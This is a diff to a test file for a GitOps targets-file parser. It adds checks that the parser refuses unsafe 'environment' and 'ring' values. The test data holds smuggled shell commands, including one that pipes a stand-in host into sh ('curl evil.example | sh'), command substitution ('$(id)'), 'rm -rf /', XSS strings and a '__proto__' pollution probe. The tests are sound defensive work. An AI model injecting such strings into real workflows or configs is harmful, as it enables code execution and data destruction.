@@ -75,11 +75,23 @@ describe("the attacker's targets file", () => {
     );
   });
 
-  it('keeps values with newlines and markdown as data: quoted in messages, passed on as written', () => {
+  it('keeps values with newlines and markdown as data: quoted in messages, passed on as written; refuses them where the matrix carries them', () => {
     const markdown = '**prod** <img src=x onerror=alert(1)> [x](javascript:alert(1))';
-    const targets = fleetOf(`targets:\n  - name: a\n    path: a\n    environment: ${JSON.stringify(markdown)}\n    context: "eu\\n<!-- end -->"\n`);
-    assert.deepEqual(matrixEntries(targets), [{ target: 'a', environment: markdown }]);
+    const targets = fleetOf(`targets:\n  - name: a\n    path: a\n    environment: prod-eu\n    context: "eu\\n<!-- end -->"\n`);
+    assert.deepEqual(matrixEntries(targets), [{ target: 'a', environment: 'prod-eu' }]);
     assert.equal(targets[0]?.settings.context, 'eu\n<!-- end -->');
+    // The matrix's values may be written into a workflow's `run:` script: no quote, `$` or backtick.
+    for (const name of [markdown, 'prod"; curl evil.example | sh; "', 'prod$(id)', '`id`'])
+      assertRefused(
+        () => fleetOf(`targets:\n  - name: a\n    path: a\n    environment: ${JSON.stringify(name)}\n`),
+        'kube-gitops.yaml:4: ',
+        /field 'environment' must be a name of letters/,
+      );
+    assertRefused(
+      () => fleetOf('targets:\n  - name: a\n    path: a\n    ring: "1; rm -rf /"\n'),
+      'kube-gitops.yaml:4: ',
+      /field 'ring' must be a name of letters/,
+    );
     assertRefused(() => fleetOf('targets:\n  - name: "a\\n# Approved"\n    path: a\n'), 'kube-gitops.yaml:2: ', /^[^\n]*$/);
     assertRefused(() => fleetOf('targets:\n  - name: a\n    path: a\n    "__proto__": {x: 1}\n'), 'kube-gitops.yaml:4: ', /unknown field "__proto__"/);
   });
